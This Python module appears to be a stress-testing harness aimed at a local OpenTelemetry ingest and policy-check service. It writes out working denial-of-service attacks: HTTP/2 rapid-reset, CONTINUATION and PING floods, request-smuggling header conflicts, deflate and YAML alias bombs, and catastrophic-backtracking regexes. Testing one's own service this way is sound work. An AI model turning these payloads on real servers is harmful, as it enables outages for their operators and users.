"""Attacks on the framing: HTTP/2 without gRPC, lengths that lie; and what readers may ask that takes long."""

from __future__ import annotations

import itertools
import json
import socket
import struct
import time
import zlib
from collections.abc import Callable

from attack_load import COUNTER, HERE, JSON, MIB, Attack, Tally, in_threads, one_span, posting, varint

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
PATH = b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that no table is asked for."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(
    literal(name, value)
    for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", PATH), (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"),
    )
)  # fmt: skip


def over_http2(frames: Callable[[int], bytes], *, connections: int, pause: float = 0.0) -> Attack:
    """Frames for the port of gRPC, as many as it takes; `frames` makes those of a round."""

    def attack(port: int, seconds: float) -> str:
        end = time.monotonic() + seconds

        def work(tally: Tally) -> None:
            while time.monotonic() < end:
                try:
                    with socket.create_connection(
                        ("127.0.0.1", port + 1), 5, source_address=(HERE, 0)
                    ) as one:
                        one.sendall(PREFACE + frame(SETTINGS, 0, 0))
                        one.setblocking(False)
                        talk(one, tally)
                except OSError as failure:
                    tally.add(type(failure).__name__)
                    time.sleep(0.05)

        def talk(one: socket.socket, tally: Tally) -> None:
            for number in itertools.count():
                if time.monotonic() > end:
                    return
                left = frames(number)
                while left and time.monotonic() < end:
                    try:
                        while one.recv(MIB):
                            pass
                        tally.add("closed")
                        return
                    except BlockingIOError:
                        pass
                    try:
                        left = left[one.send(left) :]
                    except BlockingIOError:
                        time.sleep(0.002)
                tally.add("rounds")
                time.sleep(pause)

        return in_threads(connections, work)

    return attack


def reset_at_once(number: int) -> bytes:
    """Fifty calls, each taken back as soon as it is made."""
    made = range(100 * number + 1, 100 * number + 101, 2)
    return b"".join(frame(HEADERS, 4, one, CALL) + frame(RESET, 0, one, bytes(4)) for one in made)


def calls_that_wait(number: int) -> bytes:
    """Fifty calls, each of which announces 3 MiB and says a byte."""
    made = range(100 * number + 1, 100 * number + 101, 2)
    begun = b"\0" + struct.pack(">I", 3 * MIB) + b"\0"
    return b"".join(frame(HEADERS, 4, one, CALL) + frame(DATA, 0, one, begun) for one in made)


def raw(requests: tuple[bytes, ...], *, threads: int = 16) -> Attack:
    """Requests as they stand here, each over a connection of its own."""

    def attack(port: int, seconds: float) -> str:
        end = time.monotonic() + seconds

        def work(tally: Tally) -> None:
            for request in itertools.cycle(requests):
                if time.monotonic() > end:
                    return
                try:
                    with socket.create_connection(("127.0.0.1", port), 2, source_address=(HERE, 0)) as one:
                        one.settimeout(2)
                        one.sendall(request)
                        tally.add(one.recv(12)[9:].decode(errors="replace") or "closed")
                except OSError as failure:
                    tally.add(type(failure).__name__)

        return in_threads(threads, work)

    return attack


def post(*lines: str, body: bytes = b"") -> bytes:
    head = ("POST /v1/traces HTTP/1.1", "host: localhost", "content-type: application/x-protobuf", *lines)
    return "\r\n".join((*head, "", "")).encode() + body


LYING = (
    post("content-length: 10", body=b"\x0a" * 4000),
    post("content-length: 4000", body=b"\x0a"),
    post("content-length: -1", body=b"\x0a"),
    post("content-length: 99999999999999999999", body=b"\x0a"),
    post("content-length: 4", "content-length: 5", body=b"\x0a\x02\x12\x00"),
    post("content-length: 4", "transfer-encoding: chunked", body=b"0\r\n\r\n"),
    post("transfer-encoding: chunked", body=b"fffffffffffffff\r\n\x0a"),
    post("transfer-encoding: chunked, chunked", body=b"-4\r\n\x0a"),
    post("transfer-encoding: gzip, chunked", body=b"2\r\n\x0a\x00\r\n0\r\nx: " + b"y" * 60_000 + b"\r\n\r\n"),
    post("expect: 100-continue", "content-length: 1000"),
    post("upgrade: h2c", "connection: upgrade, http2-settings", "http2-settings: AAA", "content-length: 0"),
    b"GET " + b"/" * 60_000 + b" HTTP/1.1\r\nhost: localhost\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
    PREFACE + frame(SETTINGS, 0, 0),
)


def deflated(size: int) -> bytes:
    """A raw deflate stream of so many zeros."""
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(bytes(size)) + engine.flush()


def many_keys(attributes: int) -> bytes:
    """Spans of one run, each with keys that nobody has used, of 200 bytes."""
    message = one_span(next(COUNTER), 1)
    spans = message.resource_spans[0].scope_spans[0].spans
    trace = spans[0].trace_id
    for _ in range(20):
        span = spans.add(trace_id=trace, span_id=next(COUNTER).to_bytes(8, "big"), name="n")
        for _ in range(attributes):
            span.attributes.add(key=f"{next(COUNTER):0200d}").value.string_value = "v"
    return message.SerializeToString()


def tree(depth: int, width: int) -> bytes:
    """A map of maps, so deep and so wide at each step."""
    inner = b""
    for _ in range(depth):
        pair = b"\x0a\x01k\x12" + varint(len(inner)) + inner
        pairs = (b"\x0a" + varint(len(pair)) + pair) + b"\x0a\x05\x0a\x01l\x12\x00" * width
        inner = b"\x32" + varint(len(pairs)) + pairs
    attribute = b"\x0a\x01a\x12" + varint(len(inner)) + inner
    message = one_span(next(COUNTER), 1)
    span = message.resource_spans[0].scope_spans[0].spans[0].SerializeToString()
    span += b"\x4a" + varint(len(attribute)) + attribute
    scope = b"\x12" + varint(len(span)) + span
    resource = b"\x12" + varint(len(scope)) + scope
    return b"\x0a" + varint(len(resource)) + resource


def at_time(nanoseconds: int) -> bytes:
    """A run that began and ended in another century."""
    message = one_span(next(COUNTER), next(COUNTER))
    span = message.resource_spans[0].scope_spans[0].spans[0]
    span.start_time_unix_nano, span.end_time_unix_nano = nanoseconds, nanoseconds + 1
    span.attributes.add(key="gen_ai.operation.name").value.string_value = "invoke_agent"
    return message.SerializeToString()


TIMES = itertools.cycle((0, 1, 10_413_792_000 * 10**9, 2**63 - 1, 2**63, 2**64 - 2))
LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 10)}]\n" for at in range(1, 10)
)


def monstrous(policies: str) -> bytes:
    """A run of 2,000 calls, and what it shall be judged by."""
    calls = [{"name": "ab"[at % 2], "arguments": {"x": "a" * 40 + "!"}} for at in range(2_000)]
    return json.dumps({"run": {"run_id": "r", "calls": calls, "status": "ok"}, "policies": policies}).encode()


def rules(*lines: str) -> str:
    numbered = "".join(f"  - {{id: p{at}, {line}}}\n" for at, line in enumerate(lines))
    return f"actions: {{A: a, B: b}}\npolicies:\n{numbered}"


BACKTRACK = "guard: {calls: a, check: 'args.x.matches(\"(a+)+(a+)+(a+)+$\")'}"
LISTS = 'guard: {calls: a, check: \'args.x.matches("a") && [' + ", ".join(["1"] * 3_000) + "].all(i, i > 0)'}"


def checking(policies: str, *, threads: int = 8) -> Attack:
    return posting(
        lambda: monstrous(policies),
        kind=JSON,
        path="/api/v1/check",
        threads=threads,
        distinct=1,
        packed=False,
    )


WIRE: dict[str, Attack] = {
    "wire: raw deflate bombs": posting(
        lambda: deflated(64 * MIB),
        threads=16, distinct=1, packed=False, headers={"content-encoding": "deflate"},
    ),
    "wire: zstd": posting(
        lambda: b"\x28\xb5\x2f\xfd" + b"\0" * 99_000,
        packed=False, distinct=1, headers={"content-encoding": "zstd"},
    ),
    "wire: lengths that lie": raw(LYING),
    "wire: new keys of attributes": posting(lambda: many_keys(180), threads=16, distinct=16),
    "wire: trees of values": posting(lambda: tree(60, 1_500), threads=16),
    "wire: other centuries": posting(lambda: at_time(next(TIMES)), threads=16, packed=False, distinct=300),
    "wire: calls taken back": over_http2(reset_at_once, connections=16),
    "wire: calls that wait": over_http2(calls_that_wait, connections=40, pause=0.2),
    "wire: pings": over_http2(lambda _: frame(PING, 0, 0, bytes(8)) * 2_000, connections=16),
    "wire: settings": over_http2(lambda _: frame(SETTINGS, 0, 0) * 2_000, connections=16),
    "wire: heads without end": over_http2(
        lambda number: frame(HEADERS, 0, 1, CALL) if not number
        else frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 150),
        connections=16, pause=0.01,
    ),
    "wire: check, patterns": checking(rules(*[BACKTRACK] * 20)),
    "wire: check, lists": checking(rules(*[LISTS] * 20)),
    "wire: check, a million laughs": checking(LAUGHS),
    "wire: check, 5,000 policies": checking(rules(*["rule: A must happen before B."] * 5_000)),
}  # fmt: skip
